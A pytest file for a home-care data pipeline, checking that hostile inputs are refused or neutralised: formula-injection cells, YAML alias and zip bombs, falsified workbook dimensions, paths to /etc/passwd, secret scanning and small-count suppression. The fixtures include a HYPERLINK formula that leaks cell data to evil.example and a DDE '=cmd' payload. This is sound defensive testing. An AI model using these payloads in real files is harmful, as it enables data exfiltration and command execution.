"""Hostile input is input: formula-like cells, bombs, huge fields, paths outside the project,
secrets and small person counts each end in a clear error or a neutralised value."""

from __future__ import annotations

import io
import tempfile
import zipfile
from pathlib import Path

import matplotlib.pyplot as plt
import pandas as pd
import pytest
from cli_run import run_cli
from openpyxl import Workbook, load_workbook

from homecare.core import paths, processed, provenance
from homecare.core.encoding import read_csv_text
from homecare.core.errors import InputError, ParameterError
from homecare.core.files import csv_bytes
from homecare.core.xlsx import check_workbook
from homecare.figures import style
from homecare.ops import params as run_params
from homecare.ops import sharing
from homecare.publish import disclosure
from homecare.publish.workbook import write_workbook
from homecare.stages.base import Stage

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"施設")'


def test_formula_like_text_is_neutralised_in_csv_numbers_stay_numbers() -> None:
    df = pd.DataFrame(
        {"住所": [HYPERLINK, "+81-45-000", "@SUM(A1)", "-", "横浜市", "\tcmd"], "差（点）": [-1.5, 2, 3, 4, 5, 6]}
    )
    text = csv_bytes(df).decode("utf-8-sig")
    rows = [line.split(",")[-1] for line in text.splitlines()[1:]]
    assert rows == ["-1.5", "2.0", "3.0", "4.0", "5.0", "6.0"], "negative numbers stay numbers"
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert back["住所"].tolist() == ["'" + HYPERLINK, "'+81-45-000", "'@SUM(A1)", "-", "横浜市", "'\tcmd"]


def test_formula_like_text_stays_text_in_the_workbook(tmp_path: Path) -> None:
    df = pd.DataFrame({"住所": [HYPERLINK, "横浜市"], "数": [-3, 4]})
    path = write_workbook([(df, {"sheet": "t", "title": "=TITLE()", "sources": []})], tmp_path / "t.xlsx")
    ws = load_workbook(path).active
    cell = ws["A3"]
    assert cell.value == HYPERLINK and cell.data_type == "s" and cell.quotePrefix, "shown as written, never run"
    assert ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["B3"].value == -3 and ws["B3"].data_type == "n"


def test_geocode_output_is_neutralised(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text(f'名称,住所\n"=cmd|\' /C calc\'!A0","{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n', encoding="utf-8")
    result = run_cli("geocode", str(src), "-o", str(tmp_path / "out.csv"))
    assert result.returncode == 0, result.stderr
    out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert out.loc[0, "名称"].startswith("'=") and out.loc[0, "住所"].startswith("'=")


def test_yaml_alias_bomb_is_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    lines = ["stages: [00_reference_areas]", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert bomb.stat().st_size < 1000
    with pytest.raises(ParameterError, match=r"alias \*a is not allowed"):
        run_params.load_params(bomb)


def test_workbook_with_a_far_away_cell_is_refused_before_loading(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active["A1"] = "通し番号"
    wb.active["XFD1048576"] = 1
    path = tmp_path / "far.xlsx"
    wb.save(path)
    assert path.stat().st_size < 30_000
    with pytest.raises(InputError, match="declares 1,048,576 rows x 16,384 columns"):
        check_workbook(path)


def _lying_workbook(path: Path) -> Path:
    """A workbook whose sheet says A1:A1 but holds a cell at XFD1048576."""
    wb = Workbook()
    wb.active["A1"] = "通し番号"
    wb.active["XFD1048576"] = 1
    plain = io.BytesIO()
    wb.save(plain)
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = data.replace(b'<dimension ref="A1:XFD1048576"', b'<dimension ref="A1:A1"')
            dst.writestr(item, data)
    return path


def test_workbook_whose_dimension_lies_is_refused_by_every_reader(tmp_path: Path) -> None:
    from homecare.home_medical.sheets import open_workbook
    from homecare.population.ipss import read_workbook
    from homecare.scores.cells import Book

    path = _lying_workbook(tmp_path / "lying.xlsx")
    for read in (check_workbook, open_workbook, read_workbook, Book):
        with pytest.raises(InputError, match=r"holds cells spanning 1,048,576 rows x 16,384 columns \(A1:XFD1048576\)"):
            read(path)


def test_workbook_readers_refuse_paths_outside_the_project(tmp_path: Path) -> None:
    from homecare.home_medical.sheets import open_workbook
    from homecare.population.ipss import read_workbook
    from homecare.scores.cells import Book

    with tempfile.TemporaryDirectory(dir="/var/tmp") as outside:  # not a data root of the tests
        path = Path(outside) / "14.xlsx"
        Workbook().save(path)
        for read in (check_workbook, open_workbook, read_workbook, Book):
            with pytest.raises(InputError, match="must lie inside the project"):
                read(path)


def test_zip_bomb_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/sharedStrings.xml", b"\0" * 60_000_000)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(InputError, match="zip bomb"):
        check_workbook(path)
    with pytest.raises(InputError, match="not a zip file"):
        check_workbook(_write(tmp_path / "old.xlsx", b"\xd0\xcf\x11\xe0 an old .xls"))


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def test_csv_with_cr_only_line_ends_is_read(tmp_path: Path) -> None:
    df, _ = read_csv_text(_write(tmp_path / "mac.csv", "名称,住所\r病院A,横浜市中区1\r病院B,川崎市川崎区2\r".encode()))
    assert df["名称"].tolist() == ["病院A", "病院B"]


def test_huge_field_is_a_located_error(tmp_path: Path) -> None:
    path = _write(tmp_path / "huge.csv", ("名称,住所\n病院A,横浜市\n病院B," + "あ" * 200_000 + "\n").encode())
    with pytest.raises(InputError, match="row 3.*field larger than field limit"):
        read_csv_text(path)


def test_inputs_outside_the_project_and_data_roots_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="must lie inside the project"):
        read_csv_text("/etc/passwd")
    link = paths.project_root() / "data" / "raw" / "sample" / ".link_to_etc_test"
    link.symlink_to("/etc/passwd")
    try:
        with pytest.raises(InputError, match="must lie inside the project"):
            read_csv_text(link)
    finally:
        link.unlink()


def test_check_share_flags_paths_outside_the_project_and_common_secrets() -> None:
    text = "\n".join(
        [
            "read /etc/shadow and /srv/other/data.csv",
            "AKIAIOSFODNN7EXAMPLE",
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFZ2eVZkRXQ",
            "-----BEGIN RSA PRIVATE KEY-----",
            "DATABASE_URL=postgres://admin:s3cretPass@db.example.lg.jp:5432/homecare",
            "ok: https://www.mhlw.go.jp/content/12300000/jigyosho_520.csv 2025/12/01 </div>",
        ]
    )
    kinds = [f.kind for f in sharing.scan_text(text)]
    assert kinds.count("absolute path") == 2
    for kind in ("AWS Access Key", "JSON Web Token", "Private Key", "Basic Auth Credentials"):
        assert f"secret ({kind})" in kinds
    clean = sharing.sanitize_text(text)
    assert "s3cretPass" not in clean and "AKIAIOSFODNN7EXAMPLE" not in clean


def test_paths_are_compared_as_paths_not_text(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    root = tmp_path / "homecare"
    root.mkdir()
    monkeypatch.setenv("HOMECARE_ROOT", str(root))
    text = f"{root}/data/x.csv {root}-data/processed/y.parquet {root}"
    assert sharing.sanitize_text(text) == f"data/x.csv {root}-data/processed/y.parquet ."


def test_small_counts_in_figure_texts_are_found() -> None:
    rules = disclosure.DisclosureRules()
    assert disclosure.small_counts_in_text("サルビアねっと\n参加住民7人\n", rules) == ["サルビアねっと 参加住民7人 "]
    assert disclosure.small_counts_in_text("参加住民25,650人・住民1人当たり・参加住民<10人", rules) == []


def test_stage_refuses_a_figure_or_table_with_a_small_person_count(tmp_path: Path) -> None:
    stage = Stage("99_test", tmp_path / "run")
    fig, ax = plt.subplots()
    ax.set_title("参加住民7人")
    style.finish_figure(fig, title="テスト", sources=["テスト"])
    with pytest.raises(disclosure.DisclosureError, match="参加住民7人"):
        stage.figure(fig, "99_small")
    plt.close(fig)
    with pytest.raises(disclosure.DisclosureError, match="参加住民数（人）"):
        stage.table(pd.DataFrame({"地域": ["北"], "参加住民数（人）": [7]}), "99_small", title="t", sources=["テスト"])
    assert not (tmp_path / "run" / "tables" / "99_small.csv").exists()


def test_secondary_suppression_never_picks_a_zero_and_resists_differencing() -> None:
    import random

    rules = disclosure.DisclosureRules()
    rng = random.Random(7)
    for _ in range(300):
        n = rng.randint(2, 6)
        values = [rng.choice([0, 0, 3, 5, 12, 40, 80]) for _ in range(n)]
        df = pd.DataFrame({"地域": [f"R{i}" for i in range(n)] + ["計"], "患者数（人）": [*values, sum(values)]})
        try:
            out = disclosure.suppress_small_counts(df, ["患者数（人）"], rules=rules, total_row=("地域", "計"))
        except disclosure.DisclosureError:
            continue  # refused: the small count could not be protected, so nothing is published
        shown = out.table["患者数（人）"].tolist()
        hidden = [i for i, v in enumerate(shown) if v in (rules.primary_symbol, rules.secondary_symbol)]
        assert all(values[i] != 0 for i in out_secondary(out) if i < n), "a 0 is never the second cell"
        if hidden and n not in hidden:  # the total is visible: one hidden cell would be total minus the rest
            assert len(hidden) != 1, (values, shown)


def out_secondary(out: disclosure.Suppressed) -> list[int]:
    return [r for r, _ in out.secondary]


def test_notebook_outside_the_runner_writes_to_dev_and_reads_official(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("HOMECARE_ROOT", str(tmp_path))
    monkeypatch.delenv("HOMECARE_PROCESSED_DIR", raising=False)
    official = tmp_path / "data" / "processed"
    official.mkdir(parents=True)
    pd.DataFrame({"a": [1]}).to_parquet(official / "t.parquet")
    assert paths.processed_dir() == tmp_path / "data" / "processed" / "dev"
    assert processed.read_processed("t")["a"].tolist() == [1], "reads the official table it has not written"
    processed.write_processed(pd.DataFrame({"a": [2]}), "t")
    assert (official / "dev" / "t.parquet").is_file() and pd.read_parquet(official / "t.parquet")["a"].tolist() == [1]
    provenance.reset()
    assert processed.read_processed("t")["a"].tolist() == [2]
